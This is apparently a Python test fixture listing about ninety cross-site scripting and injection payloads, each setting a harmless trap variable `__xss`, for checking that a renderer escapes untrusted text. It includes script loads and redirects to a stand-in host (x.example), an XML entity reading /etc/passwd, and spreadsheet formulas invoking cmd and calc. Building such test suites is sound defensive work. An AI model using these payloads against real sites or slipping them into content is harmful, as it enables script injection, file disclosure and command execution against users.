"""Texts that would run, change the page or leave it, were they ever taken for markup; each sets the trap `__xss`."""

SCRIPTS = (
    "<script>window.__xss=1</script>", "<SCRIPT>__xss=1</SCRIPT>", "<ScRiPt >__xss=1</sCrIpT >",
    "<script/x>__xss=1</script>", "<script\n>__xss=1</script>", "<<script>__xss=1//<</script>",
    "<sc\x00ript>__xss=1</script>", "<scr<script>ipt>__xss=1</script>", "<script src=//x.example/__xss.js>",
    "<script type=module>__xss=1</script>", "＜script＞__xss=1＜/script＞", "&lt;script&gt;__xss=1&lt;/script&gt;",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=__xss=1>", "<img/src=x/onerror=__xss=1>", "<body onload=__xss=1>",
    "<details open ontoggle=__xss=1>", "<input autofocus onfocus=__xss=1>", "<video src=x onerror=__xss=1>",
    "<audio src=x onerror=__xss=1>", "<marquee onstart=__xss=1>", "<xss-tag onclick=__xss=1>",
    "<p style=animation:x onanimationend=__xss=1>", "<select onfocus=__xss=1 autofocus>",
)  # fmt: skip
DRAWINGS = (
    "<svg onload=__xss=1>", "<svg><script>__xss=1</script></svg>", "<svg><a xlink:href=javascript:__xss=1>",
    "<svg><animate onbegin=__xss=1 attributeName=x>", "<math><mtext><img src=x onerror=__xss=1>",
    "<math href=javascript:__xss=1>x</math>", "<svg><style><img src=x onerror=__xss=1>",
)  # fmt: skip
BREAKOUTS = (
    "\"><script>__xss=1</script>", "'><img src=x onerror=__xss=1>", "\" onmouseover=__xss=1 x=\"",
    "' onfocus='__xss=1' autofocus='", " onmouseover=__xss=1 ", "/onfocus=__xss=1/autofocus/",
    "></option></select><img src=x onerror=__xss=1>", "</title><script>__xss=1</script>",
    "</textarea><script>__xss=1</script>", "</script><script>__xss=1</script>", "</style><svg onload=__xss=1>",
    "\"}</script><script>__xss=1</script>", "';__xss=1;//", "\";__xss=1;//", "\\\";__xss=1;//", "`${__xss=1}`",
    "${__xss=1}", "\u2028__xss=1\u2029",
)  # fmt: skip
ADDRESSES = (
    "javascript:__xss=1", "JaVaScRiPt:__xss=1", "java\tscript:__xss=1", "data:text/html,<script>__xss=1</script>",
    "vbscript:__xss=1", "<a href=javascript:__xss=1>x</a>", "<a href=&#106;avascript:__xss=1>x</a>",
    "<iframe src=javascript:__xss=1>", "<iframe srcdoc='<script>__xss=1</script>'>",
    "<form action=javascript:__xss=1><input type=submit>", "<object data=javascript:__xss=1>",
    "<embed src=javascript:__xss=1>", "<base href=//x.example/__xss/>",
)  # fmt: skip
REMARKS = (
    "<!--><img src=x onerror=__xss=1>", "--><script>__xss=1</script><!--", "<![CDATA[<svg onload=__xss=1>]]>",
    "]]><script>__xss=1</script>", "<?xml version='1.0'?><svg onload=__xss=1>",
    "<!ENTITY __xss SYSTEM 'file:///etc/passwd'>", "<style>@import '//x.example/__xss'</style>",
    "<link rel=stylesheet href=//x.example/__xss>", "<meta http-equiv=refresh content='0;url=//x.example/__xss'>",
    "<noscript><p title='</noscript><img src=x onerror=__xss=1>'>",
)  # fmt: skip
ENCODED = (
    "+ADw-script+AD4-__xss=1+ADw-/script+AD4-", "%3Cscript%3E__xss=1%3C/script%3E", "\u00bcscript\u00be__xss=1",
    "\u00c0\u00bcscript\u00c0\u00be__xss=1", "&#60;script&#62;__xss=1", "&#x3c;img src=x onerror=__xss=1>",
    "\\u003cscript\\u003e__xss=1", "\u202e<script>__xss=1</script>", "\u200b<svg onload=__xss=1>",
    "\ufeff<script>__xss=1</script>",
)  # fmt: skip
FRAMEWORK = (
    "<p hx-get=/desk/ hx-trigger=load>__xss</p>", "<p hx-on:click=__xss=1>x</p>", "<p data-hx-post=/display/>__xss",
    "\" hx-on::load=\"__xss=1\" x=\"", "{{ 7|add:7 }}__xss", "{% debug %}__xss",
    "{{constructor.constructor('__xss=1')()}}",
)  # fmt: skip
FORMULAS = ('=HYPERLINK("//x.example/__xss")', "+__xss|' /C calc'!A0", "-2+3+cmd|'__xss'!A0", "@SUM(__xss)")

PAYLOADS = (
    *SCRIPTS, *HANDLERS, *DRAWINGS, *BREAKOUTS, *ADDRESSES, *REMARKS, *ENCODED, *FRAMEWORK, *FORMULAS,
)  # fmt: skip
